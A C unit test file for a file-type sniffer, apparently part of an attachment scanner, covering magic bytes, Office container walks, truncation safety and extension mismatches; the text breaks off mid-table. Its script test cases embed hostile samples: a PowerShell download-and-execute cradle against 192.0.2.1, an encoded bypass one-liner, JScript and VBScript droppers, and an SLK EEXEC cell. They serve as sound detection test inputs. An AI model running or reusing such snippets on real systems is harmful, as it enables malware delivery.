/*
 * test_filetype - filetype.c: magic bytes, the zip and OLE2 walks, text and script
 * heuristics, declared-vs-detected mismatch, extensions, truncated input, and a run over
 * ../shared/corpus (skipped when the corpus is absent).
 *
 * Every buffer is copied into an allocation of exactly its length before it is sniffed,
 * so a read past n is caught by AddressSanitizer.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "model/filetype.h"
#include "lib/xalloc.h"

#define CORPUS "../shared/corpus"
#define BUFCAP (128 * 1024)

#define LITERAL(s) (s), sizeof(s) - 1, NULL
#define BUILT(f)   NULL, 0, (f)

static unsigned char buf[BUFCAP];

/* put16 - store a little-endian 16-bit value */
static void put16(unsigned char *p, size_t v)
{
    p[0] = (unsigned char)v;
    p[1] = (unsigned char)(v >> 8);
}

/* put32 - store a little-endian 32-bit value */
static void put32(unsigned char *p, size_t v)
{
    put16(p, v & 0xffff);
    put16(p + 2, (v >> 16) & 0xffff);
}

/* sniff_exact - sniff a copy of exactly n bytes, so ASan sees any over-read */
static void sniff_exact(const void *data, size_t n, const char *filename, FILETYPE *ft)
{
    unsigned char *copy = xmalloc(n ? n : 1);
    if (n)
        memcpy(copy, data, n);
    filetype_sniff(copy, n, filename, ft);
    free(copy);
}

/* describe - "what: name/sub/lang/text" for one comparison per case */
static void describe(char *out, size_t cap, const char *what, const char *name, const char *sub,
                     const char *lang, bool text)
{
    snprintf(out, cap, "%s: %s/%s/%s/%s", what, name ? name : "(null)", sub ? sub : "-",
             lang ? lang : "-", text ? "text" : "bin");
}

/* zip_member - write one local header + data at off; flags bit 3 moves sizes after data */
static size_t zip_member(unsigned char *b, size_t off, const char *name, unsigned flags)
{
    const char *data =
        strcmp(name, "mimetype") == 0 ? "application/vnd.oasis.opendocument.text" : "data";
    size_t nl = strlen(name), dl = strlen(data);
    memset(b + off, 0, 30);
    memcpy(b + off, "PK\3\4", 4);
    put16(b + off + 4, 20);
    put16(b + off + 6, flags);
    put32(b + off + 18, flags & 8 ? 0 : dl);
    put32(b + off + 22, flags & 8 ? 0 : dl);
    put16(b + off + 26, nl);
    memcpy(b + off + 30, name, nl);
    memcpy(b + off + 30 + nl, data, dl);
    off += 30 + nl + dl;
    if (flags & 8) {
        memcpy(b + off, "PK\7\x08\0\0\0\0", 8);
        put32(b + off + 8, dl);
        put32(b + off + 12, dl);
        off += 16;
    }
    return off;
}

/* zip_build - a zip of names[] (NULL-terminated); cd adds central directory + EOCD */
static size_t zip_build(unsigned char *b, const char *const *names, unsigned flags, bool cd)
{
    size_t off = 0, local[32], k, cdoff;
    for (k = 0; names[k] != NULL; k++) {
        local[k] = off;
        off = zip_member(b, off, names[k], flags);
    }
    if (!cd)
        return off;
    cdoff = off;
    for (size_t i = 0; i < k; i++) {
        size_t nl = strlen(names[i]);
        memset(b + off, 0, 46);
        memcpy(b + off, "PK\1\2", 4);
        put16(b + off + 28, nl);
        put32(b + off + 42, local[i]);
        memcpy(b + off + 46, names[i], nl);
        off += 46 + nl;
    }
    memset(b + off, 0, 22);
    memcpy(b + off, "PK\5\6", 4);
    put16(b + off + 8, k);
    put16(b + off + 10, k);
    put32(b + off + 12, off - cdoff);
    put32(b + off + 16, cdoff);
    return off + 22;
}

#define ZIP_CASE(fn, flags, cd, ...)                                                               \
    static size_t fn(unsigned char *b)                                                             \
    {                                                                                              \
        static const char *const names[] = {__VA_ARGS__, NULL};                                    \
        return zip_build(b, names, flags, cd);                                                     \
    }

ZIP_CASE(zip_docm, 0, false, "[Content_Types].xml", "_rels/.rels", "word/document.xml",
         "word/vbaProject.bin")
ZIP_CASE(zip_docx, 0, true, "[Content_Types].xml", "word/document.xml", "word/styles.xml")
ZIP_CASE(zip_xlsx, 0, true, "[Content_Types].xml", "xl/workbook.xml")
ZIP_CASE(zip_xlsm, 0, false, "[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")
ZIP_CASE(zip_xl4, 0, false, "[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/sheet1.xml")
ZIP_CASE(zip_pptx, 0, true, "[Content_Types].xml", "ppt/presentation.xml")
ZIP_CASE(zip_pptm, 0, true, "[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin")
ZIP_CASE(zip_vsdx, 0, false, "[Content_Types].xml", "visio/document.xml")
ZIP_CASE(zip_xps, 0, true, "[Content_Types].xml", "Documents/1/FixedDocument.fdoc")
ZIP_CASE(zip_dd, 8, false, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
ZIP_CASE(zip_jar, 0, true, "META-INF/MANIFEST.MF", "a/Main.class")
ZIP_CASE(zip_odf, 0, true, "mimetype", "content.xml", "META-INF/manifest.xml")
ZIP_CASE(zip_plain, 0, true, "hello.txt", "photo.jpg")

/* zip_cd_only - local headers past the first are broken; only the central directory
 * still names word/vbaProject.bin */
static size_t zip_cd_only(unsigned char *b)
{
    static const char *const names[] = {"[Content_Types].xml", "word/document.xml",
                                        "word/vbaProject.bin", NULL};
    size_t n = zip_build(b, names, 0, true), second = 30 + 19 + 4;
    memcpy(b + second, "XX", 2);
    return n;
}

/* zip_spanned - the PK\7\8 spanning marker in front of the first member */
static size_t zip_spanned(unsigned char *b)
{
    memcpy(b, "PK\7\x08", 4);
    return zip_member(b, 4, "a.txt", 0);
}

/* zip_hostile - lengths and offsets that point far past the end */
static size_t zip_hostile(unsigned char *b)
{
    size_t n = zip_member(b, 0, "a.txt", 0);
    put16(b + 26, 0xffff);      /* name length */
    put32(b + 18, 0xfffffff0u); /* compressed size */
    memset(b + n, 0, 22);
    memcpy(b + n, "PK\5\6", 4);
    put16(b + n + 10, 0xffff);      /* entry count */
    put32(b + n + 16, 0xfffffff0u); /* central directory offset */
    return n + 22;
}

/* zip_many - more members than the walk looks at; the OOXML marker comes too late */
static size_t zip_many(unsigned char *b)
{
    size_t off = 0;
    for (int i = 0; i < 2100; i++)
        off = zip_member(b, off, "f", 0);
    return zip_member(b, off, "[Content_Types].xml", 0);
}

/* ole_entry - write a directory entry: UTF-16LE name, its byte length, object type */
static void ole_entry(unsigned char *e, const char *name, unsigned char type)
{
    size_t k = strlen(name);
    for (size_t i = 0; i < k; i++)
        e[2 * i] = (unsigned char)name[i];
    put16(e + 64, 2 * k + 2);
    e[66] = type;
}

/* ole_build - header magic, then a root entry and one named stream in sector 0 */
static size_t ole_build(unsigned char *b, const char *stream)
{
    memset(b, 0, 1024);
    memcpy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    ole_entry(b + 512, "Root Entry", 5);
    if (stream != NULL)
        ole_entry(b + 640, stream, 2);
    return 1024;
}

#define OLE_CASE(fn, stream)                                                                       \
    static size_t fn(unsigned char *b)                                                             \
    {                                                                                              \
        return ole_build(b, stream);                                                               \
    }

OLE_CASE(ole_doc, "WordDocument")
OLE_CASE(ole_xls, "Workbook")
OLE_CASE(ole_xls5, "Book")
OLE_CASE(ole_ppt, "PowerPoint Document")
OLE_CASE(ole_msg, "__substg1.0_0037001F")
OLE_CASE(ole_enc, "EncryptedPackage")
OLE_CASE(ole_vsd, "VisioDocument")
OLE_CASE(ole_none, "Contents")

/* ole_trunc - a stream name in a slot that runs past the end of the part */
static size_t ole_trunc(unsigned char *b)
{
    ole_build(b, "WordDocument");
    return 640 + 100;
}

/* pe_build - an MZ stub whose e_lfanew points at lfanew, with "PE\0\0" at 0x80 */
static size_t pe_build(unsigned char *b, uint32_t lfanew)
{
    memset(b, 0, 256);
    memcpy(b, "MZ\x90", 3);
    put32(b + 0x3c, lfanew);
    memcpy(b + 0x80, "PE\0\0\x4c\x01", 6);
    return 256;
}

/* pe_good - e_lfanew at a real PE header */
static size_t pe_good(unsigned char *b)
{
    return pe_build(b, 0x80);
}

/* pe_wrong - e_lfanew at something that is not a PE header */
static size_t pe_wrong(unsigned char *b)
{
    return pe_build(b, 0x40);
}

/* pe_far - e_lfanew past the end of the part */
static size_t pe_far(unsigned char *b)
{
    return pe_build(b, 0x7ffffff0u);
}

/* iso_build - a primary volume descriptor */
static size_t iso_build(unsigned char *b)
{
    memset(b, 0, 0x8800);
    memcpy(b + 0x8000, "\1CD001\1", 7);
    return 0x8800;
}

/* udf_build - ISO bridge: CD001, then BEA01 and NSR02 in the recognition sequence */
static size_t udf_build(unsigned char *b)
{
    memset(b, 0, 0x9800);
    memcpy(b + 0x8001, "CD001", 5);
    memcpy(b + 0x8801, "BEA01", 5);
    memcpy(b + 0x9001, "NSR02", 5);
    return 0x9800;
}

/* vhd_build - a fixed VHD: the "conectix" footer in the last 512 bytes */
static size_t vhd_build(unsigned char *b)
{
    memset(b, 0, 1536);
    memcpy(b + 1024, "conectix", 8);
    return 1536;
}

/* tar_build - one ustar header */
static size_t tar_build(unsigned char *b)
{
    memset(b, 0, 1024);
    memcpy(b, "hello.txt", 9);
    memcpy(b + 257,
           "ustar\0"
           "00",
           8);
    return 1024;
}

/* fat_build - a Mach-O universal binary: two arches, the first i386 */
static size_t fat_build(unsigned char *b)
{
    memset(b, 0, 64);
    memcpy(b, "\xca\xfe\xba\xbe\0\0\0\2\0\0\0\7", 12);
    return 64;
}

/* java_build - a Java class file: same magic, but version 52 where arches would be */
static size_t java_build(unsigned char *b)
{
    memset(b, 0, 64);
    memcpy(b, "\xca\xfe\xba\xbe\0\0\0\x34\0\x10\x0a", 11);
    return 64;
}

/* utf16_build - s as UTF-16LE with a BOM */
static size_t utf16_build(unsigned char *b, const char *s)
{
    size_t n = strlen(s);
    b[0] = 0xff, b[1] = 0xfe;
    for (size_t i = 0; i < n; i++)
        b[2 + 2 * i] = (unsigned char)s[i], b[3 + 2 * i] = 0;
    return 2 + 2 * n;
}

/* reg16 - a regedit export, which Windows writes in UTF-16LE */
static size_t reg16(unsigned char *b)
{
    return utf16_build(b, "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n");
}

/* text16 - ordinary words in UTF-16LE */
static size_t text16(unsigned char *b)
{
    return utf16_build(b, "Meeting notes: budget approved, next review in May.\r\n");
}

typedef struct SNIFF_CASE {
    const char *what;
    const char *data; /* literal bytes, or NULL when build is set */
    size_t len;
    size_t (*build)(unsigned char *b);
    const char *filename;
    const char *name, *sub, *lang;
    bool text;
} SNIFF_CASE;

static const SNIFF_CASE magic_cases[] = {
    {"empty part", LITERAL(""), NULL, "empty", NULL, NULL, false},
    {"elf", LITERAL("\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"), NULL, "elf", NULL, NULL, false},
    {"7z", LITERAL("7z\xbc\xaf\x27\x1c\0\4"), NULL, "7z", NULL, NULL, false},
    {"rar 4", LITERAL("Rar!\x1a\x07\x00\xcf\x90\x73"), NULL, "rar", NULL, NULL, false},
    {"rar 5", LITERAL("Rar!\x1a\x07\x01\x00\x33\x92"), NULL, "rar", NULL, NULL, false},
    {"gzip", LITERAL("\x1f\x8b\x08\0\0\0\0\0\0\3"), NULL, "gzip", NULL, NULL, false},
    {"bzip2", LITERAL("BZh91AY&SY\x01\x02"), NULL, "bzip2", NULL, NULL, false},
    {"xz", LITERAL("\3757zXZ\0\0\4\xe6\xd6"), NULL, "xz", NULL, NULL, false},
    {"cab", LITERAL("MSCF\0\0\0\0\x2c\0\0\0"), NULL, "cab", NULL, NULL, false},
    {"rtf is text", LITERAL("{\\rtf1\\ansi hello}\n"), NULL, "rtf", NULL, NULL, true},
    {"pdf", LITERAL("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), NULL, "pdf", NULL, NULL, false},
    {"pdf after junk", LITERAL("junk line\r\n%PDF-1.7\n"), NULL, "pdf", NULL, NULL, false},
    {"lnk", LITERAL("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0\x08\0"), NULL, "lnk",
     NULL, NULL, false},
    {"vhdx", LITERAL("vhdxfile\0\0\0\0"), NULL, "vhdx", NULL, NULL, false},
    {"vhd header copy", LITERAL("conectix\0\0\0\2"), NULL, "vhd", NULL, NULL, false},
    {"onenote", LITERAL("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\0\0"),
     NULL, "onenote", NULL, NULL, false},
    {"chm", LITERAL("ITSF\3\0\0\0\x60\0\0\0"), NULL, "chm", NULL, NULL, false},
    {"png", LITERAL("\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), NULL, "png", NULL, NULL, false},
    {"jpeg", LITERAL("\xff\xd8\xff\xe0\0\x10JFIF\0"), NULL, "jpeg", NULL, NULL, false},
    {"gif", LITERAL("GIF89a\1\0\1\0\0\0\0"), NULL, "gif", NULL, NULL, false},
    {"bmp", LITERAL("BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\1\0\0\0\1\0\0\0"), NULL, "bmp", NULL,
     NULL, false},
    {"webp", LITERAL("RIFF\x24\0\0\0WEBPVP8 "), NULL, "webp", NULL, NULL, false},
    {"tiff le", LITERAL("II*\0\x08\0\0\0"), NULL, "tiff", NULL, NULL, false},
    {"tiff be", LITERAL("MM\0*\0\0\0\x08"), NULL, "tiff", NULL, NULL, false},
    {"ico", LITERAL("\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\4\0\0\x16\0\0\0"), NULL, "ico", NULL,
     NULL, false},
    {"macho 64 le",
     LITERAL("\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
     NULL, "macho", NULL, NULL, false},
    {"empty zip", LITERAL("PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"), NULL, "zip", NULL, NULL,
     false},
    {"MZ without PE header is only binary", LITERAL("MZ\x90\0\3\0\0\0\4\0"), NULL, "binary", NULL,
     NULL, false},
    {"random bytes", LITERAL("\x13\x37\0\x42\x99\x01\x02"), NULL, "binary", NULL, NULL, false},
    {"UTF-16 BOM then NULs", LITERAL("\xff\xfe\0\0\0\0"), NULL, "binary", NULL, NULL, false},
    {"ooxml docm, local headers", BUILT(zip_docm), NULL, "ooxml", "docm", NULL, false},
    {"ooxml docx, central directory", BUILT(zip_docx), NULL, "ooxml", "docx", NULL, false},
    {"ooxml xlsx", BUILT(zip_xlsx), NULL, "ooxml", "xlsx", NULL, false},
    {"ooxml xlsm (vba)", BUILT(zip_xlsm), NULL, "ooxml", "xlsm", NULL, false},
    {"ooxml xlsm (xl4 macro sheet)", BUILT(zip_xl4), NULL, "ooxml", "xlsm", NULL, false},
    {"ooxml pptx", BUILT(zip_pptx), NULL, "ooxml", "pptx", NULL, false},
    {"ooxml pptm", BUILT(zip_pptm), NULL, "ooxml", "pptm", NULL, false},
    {"ooxml vsdx", BUILT(zip_vsdx), NULL, "ooxml", "vsdx", NULL, false},
    {"opc without a known part (xps)", BUILT(zip_xps), NULL, "ooxml", NULL, NULL, false},
    {"data descriptors: resync finds later members", BUILT(zip_dd), NULL, "ooxml", "docm", NULL,
     false},
    {"central directory names what local walk cannot", BUILT(zip_cd_only), NULL, "ooxml", "docm",
     NULL, false},
    {"jar", BUILT(zip_jar), NULL, "jar", NULL, NULL, false},
    {"odf", BUILT(zip_odf), NULL, "odf", NULL, NULL, false},
    {"plain zip", BUILT(zip_plain), NULL, "zip", NULL, NULL, false},
    {"spanned zip marker", BUILT(zip_spanned), NULL, "zip", NULL, NULL, false},
    {"hostile zip lengths", BUILT(zip_hostile), NULL, "zip", NULL, NULL, false},
    {"zip member cap (2000)", BUILT(zip_many), NULL, "zip", NULL, NULL, false},
    {"ole2 doc", BUILT(ole_doc), NULL, "ole2", "doc", NULL, false},
    {"ole2 xls", BUILT(ole_xls), NULL, "ole2", "xls", NULL, false},
    {"ole2 xls (Excel 5 Book)", BUILT(ole_xls5), NULL, "ole2", "xls", NULL, false},
    {"ole2 ppt", BUILT(ole_ppt), NULL, "ole2", "ppt", NULL, false},
    {"ole2 msg", BUILT(ole_msg), NULL, "ole2", "msg", NULL, false},
    {"ole2 encrypted ooxml", BUILT(ole_enc), NULL, "ole2", "encrypted-ooxml", NULL, false},
    {"ole2 vsd", BUILT(ole_vsd), NULL, "ole2", "vsd", NULL, false},
    {"ole2 of unknown kind", BUILT(ole_none), NULL, "ole2", NULL, NULL, false},
    {"ole2 slot cut off by the end", BUILT(ole_trunc), NULL, "ole2", NULL, NULL, false},
    {"pe", BUILT(pe_good), NULL, "pe", NULL, NULL, false},
    {"MZ pointing at no PE header", BUILT(pe_wrong), NULL, "binary", NULL, NULL, false},
    {"MZ pointing past the end", BUILT(pe_far), NULL, "binary", NULL, NULL, false},
    {"pe named .js stays pe", BUILT(pe_good), "a.js", "pe", NULL, NULL, false},
    {"iso", BUILT(iso_build), NULL, "iso", NULL, NULL, false},
    {"udf bridge", BUILT(udf_build), NULL, "udf", NULL, NULL, false},
    {"vhd footer", BUILT(vhd_build), NULL, "vhd", NULL, NULL, false},
    {"tar", BUILT(tar_build), NULL, "tar", NULL, NULL, false},
    {"macho fat", BUILT(fat_build), NULL, "macho", NULL, NULL, false},
    {"java class is not macho", BUILT(java_build), NULL, "binary", NULL, NULL, false},
};

static const SNIFF_CASE text_cases[] = {
    {"english email body",
     LITERAL("Hi Anna,\n\nThanks for the call today. As promised, I have attached the invoice "
             "for March; let me know if anything is unclear.\nThe payment is due at the end of "
             "the month. If you need a copy in another format, just reply and I will set it "
             "up.\nSet aside some time next week?\n\nBest regards,\nTom\n"),
     NULL, "text", NULL, NULL, true},
    {"csv", LITERAL("id,name,amount,date\n1,Alice,10.50,2024-01-02\n2,Bob,7.25,2024-01-03\n"), NULL,
     "text", NULL, NULL, true},
    {"csv with ';' line ends", LITERAL("a;b;c;\n1;2;3;\n4;5;6;\n7;8;9;\n"), NULL, "text", NULL,
     NULL, true},
    {"log",
     LITERAL("2024-05-01 12:00:01 INFO server started on :8080\n2024-05-01 12:00:03 "
             "ERROR request failed; retrying\n::1 - - GET /health 200\n"),
     NULL, "text", NULL, NULL, true},
    {"json", LITERAL("{\"name\": \"x\", \"items\": [1, 2, 3], \"ok\": true, \"n\": null}\n"), NULL,
     "text", NULL, NULL, true},
    {"shell script", LITERAL("#!/bin/sh\nset -e\necho \"building $HOME\"\nmake all\n"), NULL,
     "text", NULL, NULL, true},
    {"python", LITERAL("import os\n\ndef main():\n    print(os.getcwd())\n\nmain()\n"), NULL,
     "text", NULL, NULL, true},
    {"vba quoted in prose", LITERAL("The macro ends with End Sub and shows a MsgBox.\n"), NULL,
     "text", NULL, NULL, true},
    {"latin-1 prose",
     LITERAL("Gr\xfc\xdf"
             "e aus M\xfcnchen, sch\xf6ne Gr\xfc\xdf"
             "e.\n"),
     NULL, "text", NULL, NULL, true},
    {"utf-8 bom", LITERAL("\xef\xbb\xbfplain words\n"), NULL, "text", NULL, NULL, true},
    {"utf-16le text", BUILT(text16), NULL, "text", NULL, NULL, true},
    {"html doctype", LITERAL("<!DOCTYPE html>\n<html><body>hi</body></html>\n"), NULL, "html", NULL,
     NULL, true},
    {"html after bom and comment",
     LITERAL("\xef\xbb\xbf  <!-- generated -->\n<body><p>hi</p></body>"), NULL, "html", NULL, NULL,
     true},
    {"html starting with <a>",
     LITERAL("<a href=\"data:application/octet-stream;base64,TVo\">x</a>"), NULL, "html", NULL,
     NULL, true},
    {"html with vbscript stays html",
     LITERAL("<html><head><script language=\"vbscript\">MsgBox 1</script></head></html>"), NULL,
     "html", NULL, NULL, true},
    {"svg after prolog, doctype and comment",
     LITERAL("<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"x\">\n"
             "<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
     NULL, "svg", NULL, NULL, true},
    {"svg after prolog and comment",
     LITERAL("<?xml version=\"1.0\"?>\n<!-- hand made -->\n<svg width=\"1\"></svg>"), NULL, "svg",
     NULL, NULL, true},
    {"xml", LITERAL("<?xml version=\"1.0\"?>\n<root><a/></root>\n"), NULL, "xml", NULL, NULL, true},
    {"unknown element without prolog", LITERAL("<note>hi</note>\n"), NULL, "text", NULL, NULL,
     true},
    {"eml",
     LITERAL("Received: from mx.example.test\r\n\tby mail.example.test; Mon, 1 Jan 2024\r\n"
             "From: a@example.test\r\nSubject: hello\r\nMessage-ID: <1@example.test>\r\n"
             "\r\nbody\r\n"),
     NULL, "eml", NULL, NULL, true},
    {"mbox",
     LITERAL("From a@example.test Mon Jan  1 00:00:00 2024\nFrom: a@example.test\n"
             "Subject: hi\n\nbody\n"),
     NULL, "eml", NULL, NULL, true},
    {"prose starting with From", LITERAL("From my desk: hello there\nthis is prose\n"), NULL,
     "text", NULL, NULL, true},
    {"one header is a MIME entity, not a message", LITERAL("Subject: lunch\n\nsee you at noon\n"),
     NULL, "text", NULL, NULL, true},
    {"ics", LITERAL("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n"), NULL, "ics", NULL, NULL,
     true},
};

static const SNIFF_CASE script_cases[] = {
    {"ps1 download cradle",
     LITERAL("$url = 'http://192.0.2.1/a.ps1'\n$wc = New-Object System.Net.WebClient\n"
             "$code = $wc.DownloadString($url)\nInvoke-Expression $code\n"),
     NULL, "script", NULL, "ps1", true},
    {"ps1 one-liner",
     LITERAL("powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA\n"), NULL,
     "script", NULL, "ps1", true},
    {"jscript dropper",
     LITERAL("var sh = new ActiveXObject(\"WScript.Shell\");\n"
             "var tmp = sh.ExpandEnvironmentStrings(\"%TEMP%\");\n"
             "sh.Run(\"cmd /c start \" + tmp + \"\\\\a.exe\", 0);\n"),
     NULL, "script", NULL, "js", true},
    {"minified library",
     LITERAL("!function(e,t){\"use strict\";\"object\"==typeof module&&\"object\"==typeof "
             "module.exports?module.exports=t(e):t(e)}(\"undefined\"!=typeof window?window:this,"
             "function(C,e){var t=[],r=Object.getPrototypeOf,s=t.slice;});"),
     NULL, "script", NULL, "js", true},
    {"vbscript dropper",
     LITERAL("Dim sh\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc.exe\", 0\n"), NULL,
     "script", NULL, "vbs", true},
    {"vbscript chr concatenation",
     LITERAL("On Error Resume Next\nx = \"c\" & Chr(109) & Chr(100)\nExecute x\n"), NULL, "script",
     NULL, "vbs", true},
    {"batch",
     LITERAL("@echo off\nsetlocal\nset OUT=%TEMP%\\a.exe\nif exist %OUT% goto :run\n"
             "exit /b 0\n"),
     NULL, "script", NULL, "bat", true},
    {"script encoder output", LITERAL("#@~^CAAAAA==v,Pk6,PCAAAA==^#~@"), "notes.txt", "script",
     NULL, "vbe", true},
    {"script encoder with a JScript hint", LITERAL("// JScript.Encode\n#@~^CAAAAA==xyz^#~@"), NULL,
     "script", NULL, "jse", true},
    {"script encoder named .js", LITERAL("#@~^CAAAAA==xyz^#~@"), "a.js", "script", NULL, "jse",
     true},
    {"script encoder named .vbs", LITERAL("#@~^CAAAAA==xyz^#~@"), "a.vbs", "script", NULL, "vbe",
     true},
    /* screnc's tables produce DEL: CyberChef's reference block is 1 DEL in 38 bytes */
    {"script encoder output with DEL",
     LITERAL("#@~^DgAAAA==\\ko$K6,JC\x7f"
             "V^GJqAQAAA==^#~@"),
     "a.jse", "script", NULL, "jse", true},
    {"DEL elsewhere is not text",
     LITERAL("abc\x7f"
             "def\x7f"
             "ghi\x7f"),
     NULL, "binary", NULL, NULL, false},
    {"wsf job",
     LITERAL("<job id=\"x\">\n<script language=\"VBScript\">\nMsgBox \"hi\"\n</script>\n</job>\n"),
     NULL, "script", NULL, "wsf", true},
    {"wsf package after prolog",
     LITERAL("<?xml version=\"1.0\"?>\n<package><job><script language=\"JScript\">"
             "WScript.Echo(1)</script></job></package>"),
     NULL, "script", NULL, "wsf", true},
    {"scriptlet",
     LITERAL("<?XML version=\"1.0\"?>\n<scriptlet>\n<registration progid=\"x\"/>\n"
             "<script language=\"JScript\">new ActiveXObject(\"WScript.Shell\")</script>\n"
             "</scriptlet>\n"),
     NULL, "script", NULL, "sct", true},
    {"hta",
     LITERAL("<html><head><HTA:APPLICATION ID=\"app\"/>\n<script language=\"VBScript\">"
             "</script></head></html>"),
     NULL, "script", NULL, "hta", true},
    {"reg", LITERAL("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"), NULL,
     "script", NULL, "reg", true},
    {"reg in UTF-16LE", BUILT(reg16), NULL, "script", NULL, "reg", true},
    {"regedit4", LITERAL("REGEDIT4\r\n\r\n[HKEY_LOCAL_MACHINE\\x]\r\n"), NULL, "script", NULL,
     "reg", true},
    {"internet shortcut", LITERAL("[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n"),
     NULL, "script", NULL, "url", true},
    {"iqy", LITERAL("WEB\r\n1\r\nhttp://192.0.2.1/q.iqy\r\n"), NULL, "script", NULL, "iqy", true},
    {"slk", LITERAL("ID;P\r\nO;E\r\nC;X1;Y1;EEXEC(\"calc\")\r\n"), NULL, "script", NULL, "slk",
     true},
    {"extension .vbs decides", LITERAL("hello world\n"), "a.vbs", "script", NULL, "vbs", true},
    {"extension .CMD decides", LITERAL("hello\n"), "RUN.CMD", "script", NULL, "bat", true},
    {"extension .psm1 decides", LITERAL("hello\n"), "m.psm1", "script", NULL, "ps1", true},
    {"extension .hta over html", LITERAL("<html><body>x</body></html>"), "a.hta", "script", NULL,
     "hta", true},
    {"extension .wsc", LITERAL("<component></component>"), "a.wsc", "script", NULL, "sct", true},
    {"extension .settingcontent-ms", LITERAL("<?xml version=\"1.0\"?><PCSettings/>"),
     "x.SettingContent-ms", "script", NULL, "settingcontent", true},
};

/* run_cases - sniff each case and compare the whole result in one assertion */
static void run_cases(const SNIFF_CASE *cases, size_t count)
{
    char got[256], want[256];
    for (size_t i = 0; i < count; i++) {
        const SNIFF_CASE *c = &cases[i];
        size_t n = c->build != NULL ? c->build(buf) : c->len;
        FILETYPE ft;
        sniff_exact(c->build != NULL ? (const void *)buf : c->data, n, c->filename, &ft);
        describe(got, sizeof(got), c->what, ft.name, ft.sub, ft.lang, ft.is_text);
        describe(want, sizeof(want), c->what, c->name, c->sub, c->lang, c->text);
        assert_string_equal(got, want);
    }
}

/* test_magic - binary formats by their signatures and container walks */
static void test_magic(void **state)
{
    (void)state;
    run_cases(magic_cases, sizeof(magic_cases) / sizeof(magic_cases[0]));
}

/* test_text - text-like formats, and prose that must stay plain text */
static void test_text(void **state)
{
    (void)state;
    run_cases(text_cases, sizeof(text_cases) / sizeof(text_cases[0]));
}

/* test_scripts - script languages by content, lead bytes and extension */
static void test_scripts(void **state)
{
    (void)state;
    run_cases(script_cases, sizeof(script_cases) / sizeof(script_cases[0]));
}

/* test_truncated_magic - 1-3 bytes of a signature read nothing past n, and the first
 * two bytes of one are never taken for the format (every signature is longer) */
static void test_truncated_magic(void **state)
{
    (void)state;
    char got[128], want[128];
    for (size_t i = 0; i < sizeof(magic_cases) / sizeof(magic_cases[0]); i++) {
        const SNIFF_CASE *c = &magic_cases[i];
        if (c->build != NULL || strcmp(c->name, "binary") == 0 || strcmp(c->name, "pdf") == 0)
            continue;
        for (size_t k = 1; k <= 3 && k < c->len; k++) {
            FILETYPE ft;
            sniff_exact(c->data, k, NULL, &ft);
            bool taken = ft.name == NULL || (k < 3 && strcmp(ft.name, c->name) == 0);
            snprintf(got, sizeof(got), "%s[0,%zu): %s", c->what, k, taken ? "taken" : "not taken");
            snprintf(want, sizeof(want), "%s[0,%zu): not taken", c->what, k);
            assert_string_equal(got, want);
        }
    }
}

/* test_truncated_builds - every prefix of every built container sniffs without a bad read */
static void test_truncated_builds(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(magic_cases) / sizeof(magic_cases[0]); i++) {
        const SNIFF_CASE *c = &magic_cases[i];
        size_t unnamed = 0, n;
        if (c->build == NULL)
            continue;
        n = c->build(buf);
        /* every length near the start and the end, and a stride in between */
        for (size_t k = 0; k <= n; k += (k < 1024 || n - k < 600) ? 1 : 257) {
            FILETYPE ft;
            sniff_exact(buf, k, NULL, &ft);
            unnamed += ft.name == NULL;
        }
        assert_int_equal(unnamed, 0);
    }
}

typedef struct MISMATCH_CASE {
    const char *what;
    FILETYPE ft;
    const char *ctype, *filename;
    bool want;
} MISMATCH_CASE;

#define FT(name, sub, lang)                                                                        \
    {                                                                                              \
        (name), (sub), (lang), false                                                               \
    }

static const MISMATCH_CASE mismatch_cases[] = {
    {"pe named invoice.pdf", FT("pe", NULL, NULL), "application/pdf", "invoice.pdf", true},
    {"pe declared application/pdf, no name", FT("pe", NULL, NULL), "application/pdf", NULL, true},
    {"pe declared text/plain", FT("pe", NULL, NULL), "text/plain", NULL, true},
    {"pe hidden behind a trailing dot", FT("pe", NULL, NULL), NULL, "invoice.pdf.", true},
    {"pe as octet-stream without a name", FT("pe", NULL, NULL), "application/octet-stream", NULL,
     false},
    {"pe declared unknown application/x-*", FT("pe", NULL, NULL), "application/x-foo", "setup",
     false},
    {"pe named .exe", FT("pe", NULL, NULL), "application/x-msdownload", "setup.exe", false},
    {"pe named 'a.pdf .exe '", FT("pe", NULL, NULL), "application/octet-stream", "a.pdf .exe ",
     false},
    {"elf named .jpg", FT("elf", NULL, NULL), NULL, "cat.JPG", true},
    {"zip named photo.jpg", FT("zip", NULL, NULL), "image/jpeg", "photo.jpg", true},
    {"zip declared image/jpeg", FT("zip", NULL, NULL), "IMAGE/JPEG", NULL, true},
    {"zip named .docx", FT("zip", NULL, NULL),
